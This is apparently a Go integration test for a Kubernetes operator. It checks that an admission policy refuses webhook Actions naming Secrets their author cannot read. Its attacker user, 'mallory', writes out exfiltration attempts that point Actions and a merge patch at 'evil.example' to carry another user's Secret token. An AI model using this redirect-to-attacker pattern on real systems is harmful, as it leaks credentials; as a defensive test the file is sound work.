package deploy_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	orcav1 "github.com/sirocco-cloud/orca/internal/api/v1alpha1"
	"github.com/sirocco-cloud/orca/internal/testenv"
)

// asUser returns a client that impersonates a user.
func asUser(t *testing.T, name string) client.Client {
	t.Helper()
	cfg := rest.CopyConfig(env.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: name}
	c, err := client.New(cfg, client.Options{Scheme: env.Scheme})
	require.NoError(t, err)
	return c
}

// grant gives a user a Role in a namespace.
func grant(t *testing.T, ns, user string, rules ...rbacv1.PolicyRule) {
	t.Helper()
	role := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: user}, Rules: rules}
	require.NoError(t, env.Client.Create(t.Context(), role))
	require.NoError(t, env.Client.Create(t.Context(), &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: user},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: user},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: user}},
	}))
}

func webhookAction(ns, name, url string, headers ...orcav1.WebhookHeader) *orcav1.Action {
	return &orcav1.Action{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec:       orcav1.ActionSpec{Webhook: &orcav1.WebhookAction{URL: url, Headers: headers}},
	}
}

func fromSecret(name string) orcav1.WebhookHeader {
	return orcav1.WebhookHeader{Name: "Authorization", ValueFrom: &orcav1.SecretKeySelector{Name: orcav1.ObjectName(name), Key: "token"}}
}

// refusedByPolicy checks that the admission policy refused a write, naming the
// Action's Secrets.
func refusedByPolicy(t *testing.T, what, secrets string, err error) {
	t.Helper()
	if assert.Error(t, err, "%s should be refused", what) {
		assert.True(t, apierrors.IsForbidden(err), "%s: %v", what, err)
		assert.Contains(t, err.Error(), "may not get every secret the Action names ("+secrets+")", what)
	}
}

// TestActionsMayNameOnlySecretsTheirAuthorMayRead applies the base's
// ValidatingAdmissionPolicy and acts as two users of one namespace who may both
// write Actions: alice may read the Secret hook-secret, mallory may read none.
// Mallory cannot make the actions service send her a Secret, neither with a new
// Action nor by pointing alice's Action at her own server.
func TestActionsMayNameOnlySecretsTheirAuthorMayRead(t *testing.T) {
	ctx := t.Context()
	objs := objects(t, render(t, deployDir("base")))
	policies := ofKind(objs, "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding")
	require.Len(t, policies, 2)
	applyForReal(t, policies)

	ns := env.Namespace(t)
	for _, name := range []string{"hook-secret", "db-secret"} {
		require.NoError(t, env.Client.Create(ctx, &corev1.Secret{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name}, StringData: map[string]string{"token": "s3cret"},
		}))
	}
	writeActions := rbacv1.PolicyRule{APIGroups: []string{orcav1.GroupVersion.Group}, Resources: []string{"actions"},
		Verbs: []string{"get", "list", "create", "update", "patch"}}
	grant(t, ns, "alice", writeActions, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"secrets"},
		ResourceNames: []string{"hook-secret"}, Verbs: []string{"get"}})
	grant(t, ns, "mallory", writeActions)
	alice, mallory := asUser(t, "alice"), asUser(t, "mallory")

	// The API server compiles the policy in the background: wait until it refuses.
	err := testenv.Eventually(ctx, 30*time.Second, func(ctx context.Context) (bool, error) {
		err := mallory.Create(ctx, webhookAction(ns, "probe", "https://evil.example/", fromSecret("hook-secret")), client.DryRunAll)
		return err != nil && strings.Contains(err.Error(), "may not get every secret"), nil
	})
	require.NoError(t, err, "the policy never took effect")

	refusedByPolicy(t, "mallory naming a Secret she cannot read", "hook-secret",
		mallory.Create(ctx, webhookAction(ns, "steal", "https://evil.example/", fromSecret("hook-secret"))))
	refusedByPolicy(t, "mallory naming a second Secret among plain headers", "db-secret",
		mallory.Create(ctx, webhookAction(ns, "steal2", "https://evil.example/",
			orcav1.WebhookHeader{Name: "X-Team", Value: ptr.To("blue")}, fromSecret("db-secret"))))
	refusedByPolicy(t, "alice naming a Secret she cannot read", "db-secret",
		alice.Create(ctx, webhookAction(ns, "wide", "https://hooks.example/", fromSecret("db-secret"))))

	// What needs no Secret, or names only readable ones, goes through.
	plain := webhookAction(ns, "plain", "https://hooks.example/", orcav1.WebhookHeader{Name: "X-Team", Value: ptr.To("blue")})
	require.NoError(t, mallory.Create(ctx, plain), "an Action without Secrets")
	require.NoError(t, mallory.Create(ctx, &orcav1.Action{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "logger"}, Spec: orcav1.ActionSpec{Log: &orcav1.LogAction{}},
	}), "a log Action")
	notify := webhookAction(ns, "notify", "https://hooks.example/orca", fromSecret("hook-secret"))
	require.NoError(t, alice.Create(ctx, notify), "alice names the Secret she may read")

	// Mallory may not redirect alice's Action, nor add a Secret to her own.
	stolen := &orcav1.Action{}
	require.NoError(t, mallory.Get(ctx, client.ObjectKeyFromObject(notify), stolen))
	stolen.Spec.Webhook.URL = "https://evil.example/"
	refusedByPolicy(t, "mallory pointing alice's Action at her server", "hook-secret", mallory.Update(ctx, stolen))
	refusedByPolicy(t, "mallory's merge patch of the URL", "hook-secret", mallory.Patch(ctx, stolen.DeepCopy(),
		client.RawPatch("application/merge-patch+json", []byte(`{"spec":{"webhook":{"url":"https://evil.example/"}}}`))))
	require.NoError(t, mallory.Get(ctx, client.ObjectKeyFromObject(plain), plain))
	plain.Spec.Webhook.Headers = append(plain.Spec.Webhook.Headers, fromSecret("hook-secret"))
	refusedByPolicy(t, "mallory adding a Secret to her Action", "hook-secret", mallory.Update(ctx, plain))

	// A change that leaves the spec alone is not checked; alice may still edit hers.
	labelled := &orcav1.Action{}
	require.NoError(t, mallory.Get(ctx, client.ObjectKeyFromObject(notify), labelled))
	labelled.Labels = map[string]string{"team": "blue"}
	require.NoError(t, mallory.Update(ctx, labelled), "a label on alice's Action")
	require.NoError(t, alice.Get(ctx, client.ObjectKeyFromObject(notify), notify))
	notify.Spec.Webhook.URL = "https://hooks.example/v2"
	require.NoError(t, alice.Update(ctx, notify), "alice moves her own Action")

	got := &orcav1.Action{}
	require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(notify), got))
	assert.Equal(t, "https://hooks.example/v2", got.Spec.Webhook.URL)
}
